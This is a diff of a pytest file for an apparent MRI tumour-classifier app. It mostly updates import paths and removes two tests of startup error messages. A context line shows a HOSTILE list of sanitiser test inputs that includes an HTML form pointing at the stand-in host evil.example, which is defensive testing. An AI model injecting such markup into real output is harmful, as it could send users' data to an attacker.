@@ -13,10 +13,9 @@ import time
 import zipfile
 
 import pytest
-from conftest import ROOT
 
-from tumor_ai.batch import iter_inputs, member_name, rows_to_csv
-from tumor_ai.safe_text import csv_cell, from_csv_cell, markdown, plain
+from tumor_ai.core.batch import iter_inputs, member_name, rows_to_csv
+from tumor_ai.core.safe_text import csv_cell, from_csv_cell, markdown, plain
 
 HOSTILE = [
     '<form action="http://evil.example/x"><input name=q></form>',
@@ -79,9 +78,9 @@ def test_zip_member_names_keep_every_part_so_two_members_never_share_a_name(tmp_
 
 
 def test_a_model_without_its_mri_check_is_refused_unless_the_operator_allows_it(slot_models, slot_predictors):
-    from tumor_ai.inference import load_predictors
-    from tumor_ai.models import ModelSourceError
-    from tumor_ai.ui import build_app
+    from tumor_ai.app.ui import build_app
+    from tumor_ai.core.inference import load_predictors
+    from tumor_ai.model.metadata import ModelSourceError
 
     with pytest.raises(ModelSourceError, match=r"has no not-an-MRI check .* --allow-no-mri-check"):
         load_predictors({"cnn": str(slot_models["cnn"])})
@@ -91,23 +90,11 @@ def test_a_model_without_its_mri_check_is_refused_unless_the_operator_allows_it(
     assert any("The not-an-MRI check is off for cnn and vgg16" in text for text in texts), "a banner says so"
 
 
-def test_serve_without_the_flag_stops_with_one_sentence(slot_models):
-    process = subprocess.run(
-        [sys.executable, "app.py", "--port", "0", "--cnn", str(slot_models["cnn"]), "--vgg16", str(slot_models["vgg16"])],
-        cwd=ROOT,
-        capture_output=True,
-        text=True,
-        timeout=300,
-    )
-    assert process.returncode != 0
-    assert "has no not-an-MRI check" in process.stderr and "Traceback" not in process.stderr
-
-
 def test_a_killed_apps_folder_is_removed_by_the_next_start(tmp_path):
-    from tumor_ai.workspace import OWNER_FILE, PREFIX, process_identity, remove_stale_workspaces
+    from tumor_ai.app.workspace import OWNER_FILE, PREFIX, process_identity, remove_stale_workspaces
 
     env = {**os.environ, "TMPDIR": str(tmp_path)}
-    code = "from tumor_ai.workspace import open_workspace; open_workspace(60, 60); import time; time.sleep(300)"
+    code = "from tumor_ai.app.workspace import open_workspace; open_workspace(60, 60); import time; time.sleep(300)"
     child = subprocess.Popen([sys.executable, "-c", code], env=env, cwd=os.path.dirname(os.path.dirname(__file__)))
     deadline = time.time() + 60
     while not list(tmp_path.glob(f"{PREFIX}*/{OWNER_FILE}")) and time.time() < deadline:
@@ -126,7 +113,7 @@ def test_a_killed_apps_folder_is_removed_by_the_next_start(tmp_path):
 
 
 def test_the_sweep_spares_a_file_a_running_event_reads(tmp_path):
-    from tumor_ai.workspace import in_use, sweep
+    from tumor_ai.app.workspace import in_use, sweep
 
     old = [tmp_path / "batch" / f"{index}.jpg" for index in range(3)]
     for path in old:
@@ -140,7 +127,7 @@ def test_the_sweep_spares_a_file_a_running_event_reads(tmp_path):
 
 
 def test_the_sweep_is_a_setting_and_a_bad_value_is_one_sentence(monkeypatch, capsys):
-    from tumor_ai.serve import parse_args
+    from tumor_ai.app.serve import parse_args
 
     monkeypatch.setenv("TUMOR_AI_SWEEP_EVERY", "5")
     args = parse_args(["--sweep-age", "7"])
@@ -151,42 +138,10 @@ def test_the_sweep_is_a_setting_and_a_bad_value_is_one_sentence(monkeypatch, cap
     assert "'soon' is not a whole number of seconds" in capsys.readouterr().err
 
 
-@pytest.mark.parametrize(
-    "damage,said",
-    [
-        (
-            lambda folder: (folder / "model.keras").write_bytes((folder / "model.keras").read_bytes()[:5000]),
-            "model.keras is damaged",
-        ),
-        (lambda folder: (folder / "model.keras").write_bytes(b""), "model.keras is damaged"),
-        (lambda folder: (folder / "tumor_ai.json").write_text('{"name": "cnn", '), "tumor_ai.json is damaged"),
-        (lambda folder: (folder / "tumor_ai.json").unlink(), "tumor_ai.json (labels, preprocessing, Grad-CAM layer) is missing"),
-        (lambda folder: (folder / "mri_check.npz").write_bytes(b"PK broken"), "mri_check.npz is damaged"),
-    ],
-    ids=["truncated model", "empty model", "broken metadata", "missing metadata", "broken check"],
-)
-def test_a_damaged_model_folder_stops_the_app_with_one_sentence(damage, said, slot_models, tmp_path):
-    import shutil
-
-    folder = tmp_path / "cnn"
-    shutil.copytree(slot_models["cnn"], folder)
-    damage(folder)
-    process = subprocess.run(
-        [sys.executable, "-m", "tumor_ai.predict", str(tmp_path), "--cnn", str(folder), "--model", "cnn", "--out", "-"],
-        cwd=ROOT,
-        capture_output=True,
-        text=True,
-        timeout=300,
-    )
-    assert process.returncode != 0 and said in process.stderr, process.stderr
-    errors = [line for line in process.stderr.splitlines() if line.startswith("error:")]
-    assert "Traceback" not in process.stderr and len(errors) == 1 and said in errors[0], process.stderr
-
-
 def test_large_decodes_take_turns_and_small_ones_never_wait():
     import threading
 
-    from tumor_ai.imaging import DECODE_BUDGET, DECODE_SIDE, decoding_share
+    from tumor_ai.core.imaging import DECODE_BUDGET, DECODE_SIDE, decoding_share
 
     inside, most = [0], [0]
     lock = threading.Lock()
